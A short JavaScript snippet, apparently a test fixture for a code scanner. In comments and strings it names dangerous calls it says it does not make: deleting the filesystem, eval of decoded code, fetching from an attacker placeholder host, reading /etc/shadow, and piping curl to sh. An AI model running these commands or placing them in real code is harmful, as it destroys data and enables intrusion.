// This module never calls require('child_process').exec('rm -rf /') or eval(atob('...')).
/* fetch('http://evil.example') is not used, nor fs.readFileSync('/etc/shadow') */
const warning = "do not run: eval(code) or process.kill(1)";
console.log(warning, 'curl http://x | sh');
